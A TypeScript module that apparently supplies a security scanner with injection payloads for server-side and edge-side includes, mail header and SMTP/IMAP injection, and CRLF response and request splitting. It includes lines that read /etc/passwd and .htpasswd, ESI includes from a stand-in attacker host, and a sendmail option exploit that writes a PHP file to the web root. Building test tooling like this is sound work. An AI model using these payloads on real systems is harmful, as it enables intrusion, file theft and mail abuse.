// biome-ignore-all lint/suspicious/noTemplateCurlyInString: placeholders of other languages
import { dataPlaces } from '../places.ts';
import { attackerHost, type TechniqueFamily } from '../technique.ts';

export const ssiTechniques: TechniqueFamily = {
  about: 'a page in which the server or a cache expands directives',
  places: [...dataPlaces, 'User-Agent', 'Referer', 'file content', 'query name'],
  fields: ['name', 'comment', 'title', 'q'],
  techniques: {
    command: {
      does: 'Runs a command by a server-side include',
      needs: 'servers with includes',
      values: () => [
        '<!--#exec cmd="id"-->',
        '<!--#exec cmd="cat /etc/passwd" -->',
        '<!--#exec cgi="/cgi-bin/x.cgi"-->',
        "\"><!--#exec cmd='whoami'-->",
      ],
    },
    'file or variable': {
      does: 'Shows a file or variables of the server',
      needs: 'servers with includes',
      values: () => [
        '<!--#include virtual="/etc/passwd"-->',
        '<!--#include file="../../.htpasswd" -->',
        '<!--#printenv -->',
        '<!--#echo var="DOCUMENT_ROOT" -->',
        '<!--#set var="a" value="1" --><!--#echo var="a"-->',
        '<!--#config errmsg="x"--><!--#fsize file="a"-->',
      ],
    },
    edge: {
      does: 'Includes something at a cache or content delivery network',
      needs: 'edge-side includes',
      values: (random) => [
        `<esi:include src="http://${attackerHost(random)}/a"/>`,
        `<esi:include src="/a" stylesheet="http://${attackerHost(random)}/a.xsl" />`,
        '<esi:vars>$(HTTP_COOKIE)</esi:vars>',
        '<!--esi <esi:debug/> -->',
        `<esi:inline name="/q.html" fetchable="yes"><b>x</b></esi:inline>`,
      ],
    },
  },
};

const LINES = [
  'query value',
  'form value',
  'JSON leaf',
  'multipart field',
  'path',
  'cookie',
] as const;

export const mailTechniques: TechniqueFamily = {
  about: 'a header of a mail or a command of a mail server',
  places: LINES.filter((place) => place !== 'path' && place !== 'cookie'),
  fields: ['email', 'from', 'subject', 'to', 'name'],
  techniques: {
    'further recipients': {
      does: 'Adds header lines to a mail',
      needs: 'applications that join mails from values',
      values: (random) => [
        `me@shop.test\r\nBcc: all@${attackerHost(random)}`,
        `Hello\r\nCc: a@${attackerHost(random)}, b@${attackerHost(random)}`,
        `me@shop.test\r\nTo: x@${attackerHost(random)}\r\nSubject: Prize`,
        `Maria\r\nReply-To: eve@${attackerHost(random)}`,
      ],
    },
    'other content': {
      does: 'Replaces type and content of a mail',
      needs: 'applications that join mails from values',
      values: () => [
        'me@shop.test\r\nContent-Type: text/html\r\n\r\n<h1>Pay here</h1>',
        'Hello\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q',
        'x\r\nSubject: Invoice\r\nContent-Transfer-Encoding: base64\r\n\r\nUGF5',
      ],
    },
    commands: {
      does: 'Adds commands of SMTP or IMAP',
      needs: 'applications that talk to mail servers',
      values: (random) => [
        `me@shop.test>\r\nRCPT TO:<all@${attackerHost(random)}>\r\nDATA`,
        'x\r\n.\r\nMAIL FROM:<ceo@shop.test>\r\nRCPT TO:<a@shop.test>',
        'INBOX"\r\nA02 DELETE "Archive"',
        '1\r\nQ1 FETCH 1:* BODY[]',
      ],
    },
    'options of sendmail': {
      does: 'Gives options to sendmail in an address (CVE-2016-10033)',
      needs: 'PHPMailer and similar',
      values: () => [
        '"a\\" -oQ/tmp/ -X/var/www/q.php b"@shop.test',
        '"x\' -OQueueDirectory=/tmp -X/var/www/html/q.php"@shop.test',
        '"me" -be ${run{/bin/id}}@shop.test',
      ],
    },
  },
};

export const crlfTechniques: TechniqueFamily = {
  about: 'a header of the response or of a request of the server',
  places: LINES,
  fields: ['lang', 'redirect', 'url', 'name', 'return'],
  techniques: {
    'header added': {
      does: 'Ends a header and adds another one',
      needs: 'servers that do not check values of headers',
      values: (random) => [
        'en\r\nSet-Cookie: session=1',
        `/home\r\nLocation: https://${attackerHost(random)}/`,
        'x\r\nX-XSS-Protection: 0',
        'en\r\nAccess-Control-Allow-Origin: *',
        'x\r\nContent-Security-Policy: script-src *',
        'a\r\nSet-Cookie:role=admin;Path=/',
        `x\r\nHost: ${attackerHost(random)}`,
        'x\r\nTransfer-Encoding: chunked',
      ],
    },
    'response split': {
      does: 'Ends the head and adds content or a whole response',
      needs: 'servers that do not check values of headers',
      values: () => [
        'en\r\n\r\n<script>alert(1)</script>',
        'x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>',
        '/\r\nContent-Type: text/html\r\n\r\n<svg onload=alert(2)>',
      ],
    },
    'request split': {
      does: 'Adds a request or commands to what the server sends to others',
      needs: 'servers that build requests from values',
      values: () => [
        '/a HTTP/1.1\r\nHost: internal\r\n\r\nGET /admin',
        'x\r\n\r\nPOST /users HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}',
        'key\r\nset q 0 0 1\r\nx',
        'a\r\nSLAVEOF 198.51.100.9 6379',
      ],
    },
    'other line breaks': {
      does: 'Uses characters that lose their upper byte, or escapes of escapes',
      needs: 'servers that cut characters to one byte',
      values: () => [
        'x\u560d\u560aSet-Cookie: a=b',
        'x%0d%0aSet-Cookie: a=b',
        'x\u560aLocation: //evil.example',
      ],
    },
  },
};
